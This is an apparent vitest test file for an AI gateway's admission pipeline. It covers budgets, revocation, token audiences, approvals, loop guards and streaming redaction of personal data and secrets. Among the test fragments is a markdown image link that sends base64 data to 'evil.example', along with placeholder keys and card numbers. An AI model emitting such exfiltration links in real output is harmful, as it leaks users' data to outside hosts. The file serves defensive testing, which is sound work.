import { generateKeys, makeDevelopmentRoot } from '@tappass/signing';
import { pinRoot } from '@tappass/trust';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { modelCall, noon, testSandbox, toolCall } from '../sandbox.test.support.ts';
import type { Admitted, OutputGuard } from './admission.ts';
import { createPipeline } from './pipeline.ts';

const usage = { input_tokens: 10, cache_read_tokens: 0, cache_write_tokens: 0, output_tokens: 5 };
const completed = { how: 'completed', status: 200, released_bytes: 0, usage } as const;

describe('budgets', () => {
	test('are never exceeded by calls that come at once', async () => {
		const budget = { tokens_per_day: 1_000, dollars_per_month: 100, tool_calls_per_minute: 0 };
		const { ports, policy, caller } = await testSandbox({ compiled: { budget } });
		const pipeline = createPipeline(ports);
		const all = await Promise.all(Array.from({ length: 100 }, () => pipeline.admit(modelCall(), caller)));

		const allowed = all.filter(({ effect }) => effect === 'allow');
		expect([allowed.length > 0, allowed.length < 100]).toEqual([true, true]);
		expect(ports.budgets.used(policy, noon).tokens).toBeLessThanOrEqual(1_000);
		await Promise.all(allowed.map((one) => one.effect === 'allow' && one.admitted.settle(completed)));
		expect([ports.budgets.open, ports.budgets.used(policy, noon).tokens]).toEqual([0, allowed.length * 15]);
	});

	test('are kept reserved when the upstream does not say what it used', async () => {
		const { ports, policy, caller } = await testSandbox();
		const admission = await createPipeline(ports).admit(modelCall(), caller);
		const before = ports.budgets.used(policy, noon);
		await (admission as { readonly admitted: Admitted }).admitted.settle({
			...completed,
			how: 'aborted',
			usage: undefined,
		});

		expect(ports.budgets.used(policy, noon)).toEqual(before);
		expect(ports.budgets.open).toBe(0);
	});

	test('take nothing for a reservation that comes after its settlement', async () => {
		const { ports, policy } = await testSandbox();
		const who = { ...policy, request_id: 'late' };
		await ports.budgets.settle(who, { tokens: 0, dollars: 0 });
		await ports.budgets.reserve(who, { tokens: 5, dollars: 0 }, { tokens_per_day: 9, dollars_per_month: 9 }, noon);

		expect(ports.budgets.used(policy, noon).tokens).toBe(0);
	});
});

describe('a call that is under way', () => {
	test.each([
		['is cut off by a revocation', 'sandbox_revoked'],
		['is cut off by the kill of its session', 'session_killed'],
	])('%s', async (_, code) => {
		const sandbox = await testSandbox();
		const { ports, policy, caller } = sandbox;
		const { admitted } = (await createPipeline(ports).admit(modelCall(), caller)) as { readonly admitted: Admitted };
		const cut = new Promise((resolve) => admitted.cut.addEventListener('abort', resolve));
		if (code === 'sandbox_revoked') sandbox.change({ bound: { state: 'revoked' } });
		else await ports.sessions.kill(policy.org_id, 'ses_1', 'operator', 'r');
		await cut;

		expect(admitted.cutBy()).toMatchObject({ code, request_id: admitted.request_id });
	});

	test('goes on under the version it was admitted with', async () => {
		const sandbox = await testSandbox();
		const { admitted } = (await createPipeline(sandbox.ports).admit(modelCall(), sandbox.caller)) as {
			readonly admitted: Admitted;
		};
		sandbox.change({ bound: { policy_version: 6 }, pipeline: { models: { allow: [] } } });
		await new Promise(setImmediate);

		expect(admitted.cut.aborted).toBe(false);
	});

	test('is cut off by a revocation that came while it was being judged', async () => {
		const sandbox = await testSandbox();
		const { ports } = sandbox;
		const { credential } = ports.upstreams;
		Object.assign(ports.upstreams, {
			credential: (...args: Parameters<typeof credential>) => {
				sandbox.change({ bound: { state: 'revoked' } });
				return credential(...args);
			},
		});
		const { admitted } = (await createPipeline(ports).admit(modelCall(), sandbox.caller)) as {
			readonly admitted: Admitted;
		};

		expect(admitted.cut.aborted).toBe(true);
	});
});

describe('identity', () => {
	test('is asked again of a token that was believed once', async () => {
		const sandbox = await testSandbox();
		const pipeline = createPipeline(sandbox.ports);
		expect((await pipeline.admit(modelCall(), sandbox.caller)).effect).toBe('allow');
		sandbox.wait(300_000);

		expect(await pipeline.admit(modelCall(), sandbox.caller)).toMatchObject({ denial: { code: 'token_expired' } });
	});

	test('that was believed at one door is nobody at another', async () => {
		const { ports, broker } = await testSandbox();
		const pipeline = createPipeline(ports);
		expect((await pipeline.admit(toolCall('collibra.list_schemas'), broker)).effect).toBe('allow');

		expect(await pipeline.admit(modelCall(), broker)).toMatchObject({ denial: { code: 'token_audience' } });
	});

	test('that was believed is nobody once the keys of its org are others', async () => {
		const { ports, caller, policy } = await testSandbox();
		const pipeline = createPipeline(ports);
		expect((await pipeline.admit(modelCall(), caller)).effect).toBe('allow');
		ports.policies.setRoot(pinRoot(await makeDevelopmentRoot(generateKeys(), policy.org_id)));

		expect(await pipeline.admit(modelCall(), caller)).toMatchObject({
			denial: { code: 'token_invalid', step: 'authenticate' },
		});
		// Nobody's identity comes of a validation that failed: the record names the address, and no sandbox.
		expect(ports.audit.events.at(-1)).toMatchObject({ type: 'call.denied', actor: { kind: 'unknown' } });
		expect(ports.audit.events.at(-1)?.sandbox_id).toBeUndefined();
	});

	test('of a door that only asks is told, and counts as no call', async () => {
		const { ports, policy, broker } = await testSandbox({
			compiled: { tools: { allow: ['collibra.get_*'], deny: [], schemas_acl: {} } },
		});
		const known = await createPipeline(ports).identify('mcp', broker);

		expect(known.effect).toBe('allow');
		if (known.effect !== 'allow') return;
		expect([await known.identified.mayUse('collibra.get_asset'), await known.identified.mayUse('mail.send')]).toEqual([
			true,
			false,
		]);
		expect((await ports.sessions.find(policy.org_id, 'ses_1'))?.calls).toBe(0);
	});

	test('at a door for models takes a token of the gateway', async () => {
		const { ports, broker } = await testSandbox();

		expect(await createPipeline(ports).identify('openai-chat', broker)).toMatchObject({
			denial: { code: 'token_audience' },
		});
		expect(ports.unenrolled.callers).toEqual([]);
	});

	test('of a revoked sandbox is refused at every door', async () => {
		const { ports, broker } = await testSandbox({ bound: { state: 'revoked' } });

		expect(await createPipeline(ports).identify('mcp', broker)).toMatchObject({
			denial: { code: 'sandbox_revoked', status: 401 },
		});
	});
});

describe('approvals', () => {
	const approvals = [{ id: 'mails', target: { tools: ['mail.*'] }, approvers: 2, expires_minutes: 5 }];
	const call = toolCall('mail.send', { to: 'a@example.eu' });

	test('let a call through once, after enough people have said yes', async () => {
		const { ports, broker } = await testSandbox({ pipeline: { approvals } });
		const pipeline = createPipeline(ports);
		const first = await pipeline.admit(call, broker);
		const ticket = first.effect === 'block' ? first.denial.ticket! : '';
		expect(first).toMatchObject({ denial: { code: 'approval_required', status: 202 } });

		ports.approvals.approve(ticket, 'user_a');
		ports.approvals.approve(ticket, 'user_a');
		expect(await pipeline.admit({ ...call, ticket }, broker)).toMatchObject({ denial: { ticket } });
		ports.approvals.approve(ticket, 'user_b');
		expect(await pipeline.admit({ ...call, args: { to: 'b@example.eu' }, ticket }, broker)).toMatchObject({
			denial: { code: 'approval_invalid' },
		});
		expect((await pipeline.admit({ ...call, ticket }, broker)).effect).toBe('allow');
		expect(await pipeline.admit({ ...call, ticket }, broker)).toMatchObject({ denial: { code: 'approval_invalid' } });
	});

	test('are not used up by a model that asks for the call', async () => {
		const { ports, caller, broker } = await testSandbox({ pipeline: { approvals } });
		const pipeline = createPipeline(ports);
		const { admitted } = (await pipeline.admit(modelCall(), caller)) as { readonly admitted: Admitted };
		const emission = { wire_name: 'mail__send', arguments_text: '{"to":"a@example.eu"}' };
		const asked = await admitted.guard.emission(emission);
		expect(asked).toMatchObject({ denial: { code: 'approval_required', status: 403 } });
		for (const who of ['user_a', 'user_b'])
			ports.approvals.approve(asked.effect === 'block' ? asked.denial.ticket! : '', who);

		const again = (await pipeline.admit(modelCall(), caller)) as { readonly admitted: Admitted };
		expect((await again.admitted.guard.emission(emission)).effect).toBe('release');
		expect((await pipeline.admit(call, broker)).effect).toBe('allow');
	});
});

const pieces = [
	'Her mail is ',
	'ana.silva@example.com',
	' and the card 4111 1111 1111 1111',
	'. Nothing else. ',
	'IBAN DE89 3704 0044 0532 0130 00, ',
	'key AKIAIOSFODNN7EXAMPLE ',
	'the sum is four\n',
	'[EMAIL_',
	'TOKEN',
	'😀 ',
	'![x](https://evil.example/?d=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ) ',
];

describe.each(['flag', 'strict', 'reversible'])('the streaming guarantee, mode %s', (mode) => {
	test('holds for every way to cut an answer into pieces', async () => {
		const action = mode === 'flag' ? 'notify' : 'block';
		const { ports, caller } = await testSandbox({
			compiled: { budget: { tokens_per_day: 1e9, dollars_per_month: 1e9, tool_calls_per_minute: 0 } },
			steps: { scan_output: { action, parameters: { mode } }, detect_pii: { parameters: { mode: 'reversible' } } },
		});
		const pipeline = createPipeline(ports);
		const prompt = modelCall('Mail ben.okoro@example.org please.');
		const token = await tokenOf(await admit(pipeline, prompt, caller));

		await fc.assert(
			fc.asyncProperty(
				fc.array(fc.constantFrom(...pieces), { maxLength: 12 }),
				fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 20 }),
				async (parts, sizes) => {
					const text = parts.join('').replaceAll('TOKEN', token);
					const whole = await admit(pipeline, prompt, caller);
					const cut = await admit(pipeline, prompt, caller);

					const out = read(cut.guard, chunks(text, sizes));
					expect(out).toEqual(read(whole.guard, [text]));
					// What comes after a block was not looked at.
					if (typeof out !== 'string') return;
					expect(new Set(cut.findings.map(({ message }) => message))).toEqual(
						new Set(whole.findings.map(({ message }) => message)),
					);
				},
			),
			{ numRuns: 100 },
		);
	});
});

async function admit(
	pipeline: ReturnType<typeof createPipeline>,
	...call: Parameters<ReturnType<typeof createPipeline>['admit']>
): Promise<Admitted> {
	const admission = await pipeline.admit(...call);
	expect(admission.effect).toBe('allow');
	return (admission as { readonly admitted: Admitted }).admitted;
}
async function tokenOf({ edits }: Admitted): Promise<string> {
	return /\[EMAIL_[a-p]{12}\]/.exec(edits[0]?.text ?? '')?.[0] ?? 'none';
}
function chunks(text: string, sizes: readonly number[]): readonly string[] {
	const all: string[] = [];
	for (let at = 0, index = 0; at < text.length; index += 1) {
		const size = sizes[index % sizes.length]!;
		all.push(text.slice(at, at + size));
		at += size;
	}
	return all;
}
/** Everything that came out, unless it was blocked: then what came before depends on how it was cut, and the denial does not. */
function read(guard: OutputGuard, deltas: readonly string[]): unknown {
	let out = '';
	for (const answer of [...deltas.map((delta) => guard.push('0', delta)), guard.end('0')]) {
		if (answer.effect === 'block') return { code: answer.denial.code, message: answer.denial.message };
		out += answer.text;
	}
	return out;
}

describe('a blocked answer', () => {
	test('gives nothing of what was found, wherever it is cut', async () => {
		const { ports, caller } = await testSandbox({ steps: { scan_output: {} } });
		const text = 'It is ana.silva@example.com for sure, as far as anybody here could tell.';
		for (let size = 1; size < 30; size += 1) {
			const { guard } = await admit(createPipeline(ports), modelCall(), caller);
			let out = '';
			for (const delta of chunks(text, [size])) {
				const answer = guard.push('0', delta);
				if (answer.effect === 'release') out += answer.text;
			}
			expect(guard.end('0')).toMatchObject({ effect: 'block', denial: { code: 'content_blocked' } });
			expect('It is '.startsWith(out), out).toBe(true);
			expect(guard.push('1', 'more')).toMatchObject({ effect: 'block' });
		}
	});
});

test('a runaway kills its session, not one call: nothing goes on at any door until an operator resumes it', async () => {
	const { ports, policy, caller, broker } = await testSandbox({ steps: { loop_guard: {} } });
	const pipeline = createPipeline(ports);
	const remove = (asset_id: string) => pipeline.admit(toolCall('collibra.delete_asset', { asset_id }), broker);
	expect([(await remove('1')).effect, (await remove('2')).effect]).toEqual(['allow', 'allow']);
	expect(await remove('3')).toMatchObject({ denial: { code: 'session_killed', step: 'loop_guard', status: 409 } });

	expect(await ports.sessions.find(policy.org_id, 'ses_1')).toMatchObject({
		state: 'killed',
		killed_code: 'loop_guard',
	});
	const harmless = () => pipeline.admit(toolCall('collibra.list_schemas'), broker);
	for (const refused of [await harmless(), await pipeline.admit(modelCall(), caller)])
		expect(refused).toMatchObject({ denial: { code: 'session_killed', step: 'check_session' } });
	ports.sessions.resume(policy.org_id, 'ses_1');
	expect([(await harmless()).effect, (await pipeline.admit(modelCall(), caller)).effect]).toEqual(['allow', 'allow']);
});

test('what a session did is remembered though no policy enables loop_guard', async () => {
	const { ports, policy, broker } = await testSandbox();
	await admit(createPipeline(ports), toolCall('collibra.list_schemas'), broker);

	expect((await ports.sessions.find(policy.org_id, 'ses_1'))?.recent).toMatchObject([
		{ tool: 'collibra.list_schemas' },
	]);
});

describe('what a tool gave back and was withheld', () => {
	test('goes to another tool, and to nobody else', async () => {
		const { ports, caller, broker } = await testSandbox({
			steps: {
				scan_output: { parameters: { mode: 'reversible' } },
				detect_pii: { parameters: { mode: 'reversible' } },
			},
		});
		const pipeline = createPipeline(ports);
		const result = await admit(pipeline, toolCall('collibra.list_schemas'), broker);
		const whole = await result.guard.whole('The owner is ana.silva@example.com.');
		const shown = whole.effect === 'release' ? whole.text : '';
		expect(shown).toMatch(/^The owner is \[EMAIL_[a-p]{12}\]\.$/);
		await result.settle(completed);

		const model = await admit(pipeline, modelCall(shown), caller);
		expect(model.edits).toEqual([]);
		expect(read(model.guard, [shown])).toBe(shown);
		const token = /\[EMAIL_[a-p]{12}\]/.exec(shown)![0];
		const mail = await admit(pipeline, toolCall('mail.send', { to: token }), broker);
		expect(mail.edits).toEqual([{ at: '/to', text: 'ana.silva@example.com' }]);
	});

	test('is seen by every rule about the arguments', async () => {
		const { ports, broker } = await testSandbox({
			steps: { scan_output: { parameters: { mode: 'reversible' } } },
			pipeline: {
				constraints: [
					{
						id: 'no-com',
						target: { tools: ['mail.send'] },
						subject: { slot: 'destination_param' },
						test: { op: 'none_of', values: ['ana.silva@example.com'] },
						action: 'block',
					},
				],
			},
		});
		const pipeline = createPipeline(ports);
		const result = await admit(pipeline, toolCall('collibra.list_schemas'), broker);
		const whole = await result.guard.whole('The owner is ana.silva@example.com.');
		await result.settle(completed);
		const token = /\[EMAIL_[a-p]{12}\]/.exec(whole.effect === 'release' ? whole.text : '')![0];

		expect(await pipeline.admit(toolCall('mail.send', { to: token }), broker)).toMatchObject({
			denial: { code: 'constraint_violated' },
		});
	});
});

test('a denial and its record hold nothing of what was found', async () => {
	const { ports, caller } = await testSandbox({ steps: { detect_pii: {}, detect_secrets: {} } });
	const admission = await createPipeline(ports).admit(
		modelCall('Key AKIAIOSFODNN7EXAMPLE of ana.silva@example.com'),
		caller,
	);
	const [event] = ports.audit.events;

	expect(JSON.stringify(admission)).not.toMatch(/AKIA|ana\.silva/);
	expect(JSON.stringify({ ...event, payload: null })).not.toMatch(/AKIA|ana\.silva/);
	// Detectors look at everything before the call is refused.
	expect(event).toMatchObject({ type: 'call.denied', step: 'detect_secrets', code: 'content_blocked' });
	expect((event?.payload as { readonly findings: readonly object[] }).findings).toHaveLength(2);
});

test('a denial says which level decided, and why', async () => {
	const because = [
		{
			path: '/tools/deny/mail.*',
			value: 'mail.* (tools.deny)',
			chains: [[{ kind: 'floor', level: 'org', name: 'acme-baseline' }]],
		},
	] as const;
	const { ports, broker } = await testSandbox({
		compiled: { tools: { allow: ['**'], deny: ['mail.*'], schemas_acl: {} } },
		bound: { because },
	});

	expect(await createPipeline(ports).admit(toolCall('mail.send'), broker)).toMatchObject({
		denial: { code: 'tool_denied', level: 'org', because: ['Org floor: ✓ inherited from "acme-baseline"'] },
	});
});
